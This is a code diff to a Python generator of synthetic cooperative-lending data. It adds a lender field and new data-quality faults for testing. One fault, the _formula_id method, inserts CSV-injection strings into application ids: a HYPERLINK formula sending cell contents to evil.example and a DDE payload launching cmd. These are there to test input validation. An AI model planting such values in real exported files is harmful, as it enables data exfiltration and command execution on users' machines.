@@ -43,8 +43,11 @@ No real data exists for us, so this module writes a data set that conforms to
    before the records) and have no true PD; their repayment rows and repayment transactions start at
    the data start, and no disbursal is recorded. A legacy default also drops later applications. So
    the loan book is seasoned from the start, and loan features do not drift as the book grows.
-9. Optionally, the dirt real feeds have (duplicates, negative or absurd amounts, future timestamps,
-   unknown ids, missing fields, invalid values), counted per table and kind.
+9. Each application is addressed to one lender (`vocabulary.LENDERS`: the demo bank about a third,
+   the cooperative development funds the rest), drawn on its own stream.
+10. Optionally, the dirt real feeds have (duplicates, negative or absurd amounts, future timestamps,
+   unknown ids, missing fields, invalid values, application ids that are spreadsheet formulas,
+   unknown lenders), counted per table and kind.
 
 Everything is vectorised with numpy and pyarrow: the loops run over months, years, the (at most three)
 applications of a borrower, or tables, never over rows or entities. 100,000 members (about 10^7
@@ -136,6 +139,10 @@ PURPOSE_P = np.array([
 ])
 MEMBER_TERMS, MEMBER_TERM_P = np.array([6, 12, 18, 24, 36]), [0.12, 0.38, 0.15, 0.22, 0.13]
 COOP_TERMS, COOP_TERM_P = np.array([12, 24, 36, 48, 60]), [0.25, 0.30, 0.25, 0.10, 0.10]
+# Who each application is addressed to (vocabulary.LENDERS, in order): the demo bank gets about a
+# third, so that `make demo`'s console has a full queue; the funds share the rest.
+LENDER_P = np.array([0.34, 0.22, 0.16, 0.16, 0.12])
+assert len(LENDER_P) == len(v.LENDERS) and abs(LENDER_P.sum() - 1.0) < 1e-12
 
 # Harvest months (1-12) by region: sales of farming entities peak there.
 HARVEST_MONTHS = {
@@ -981,6 +988,7 @@ def loan_tables(apps: pd.DataFrame, loans: pd.DataFrame, repayments: pd.DataFram
     return {
         "loan_applications": to_table(CONTRACTS["loan_applications"], {
             "application_id": app_ids, "entity_type": entity_type, "entity_id": entity_id,
+            "lender_id": _vocab(tuple(v.LENDERS), apps.lender),
             "application_date": apps.date // NS_PER_DAY * NS_PER_DAY,
             "requested_amount_vnd": apps.requested, "term_months": apps.term,
             "purpose": _vocab(v.LOAN_PURPOSES, apps.purpose),
@@ -1111,6 +1119,17 @@ class Dirt:
         right = table.column("province").take(pa.array(rows))
         return _replace(table, "province", rows, _unaccented(right))
 
+    def _formula_id(self, table, rows):
+        """Ids a spreadsheet would run as formulas (CSV injection), or that a feed mangled."""
+        bad = np.array(['=HYPERLINK("http://evil.example/?d="&A1,"HS00000001")', "+cmd|' /C calc'!A0",
+                        "-2+3", "@SUM(1+1)", "\tHS00000001", "HS00000001\r\n", "hs00000001",
+                        "HS 00000001"])
+        return _replace(table, "application_id", rows, pa.array(bad[np.arange(len(rows)) % len(bad)]))
+
+    def _unknown_lender(self, table, rows):
+        bad = np.array(["ngan-hang-la", "Demo-Bank", "quy-htx-ha-tay"])
+        return _replace(table, "lender_id", rows, pa.array(bad[self.rng.integers(0, len(bad), len(rows))]))
+
     def _over_limit(self, table, rows):
         above = self.rng.integers(1, 1000, len(rows)) * 10**6
         return _replace(table, "requested_amount_vnd", rows, v.UNSECURED_LIMIT_VND["cooperative"] + above)
@@ -1148,7 +1167,7 @@ DIRT_PLAN: dict[str, dict[str, tuple[float, int]]] = {
                 "missing": (0.0005, 1)},
     "cooperatives": {"duplicate": (0.0, 1), "province_typo": (0.0, 1), "missing": (0.0, 1)},
     "loan_applications": {"duplicate": (0.002, 2), "unknown_entity": (0.001, 1), "missing": (0.001, 1),
-                          "over_limit": (0.001, 1)},
+                          "over_limit": (0.001, 1), "formula_id": (0.0005, 2), "unknown_lender": (0.0005, 1)},
     "loans": {"duplicate": (0.002, 2), "unknown_application": (0.001, 1), "missing": (0.001, 1)},
     "repayments": {"duplicate": (0.001, 2), "unknown_loan": (0.0005, 1), "negative_amount": (0.0005, 1),
                    "missing": (0.0005, 1)},
@@ -1206,6 +1225,8 @@ def generate(out_dir: Path, members: int, seed: int = 42, cooperatives: int | No
     apps = pd.concat([old_apps, apps], ignore_index=True)
     loans = pd.concat([old_loans, loans], ignore_index=True)
     repayments = pd.concat([old_repayments, repayments], ignore_index=True)
+    # its own stream: adding lenders changed no other draw
+    apps["lender"] = _rng(seed, "lenders").choice(len(LENDER_P), len(apps), p=LENDER_P).astype(np.int8)
 
     report("transactions", 0.03)
     tx = make_transactions(_rng(seed, "transactions"), ent, cal, shocks, salt)
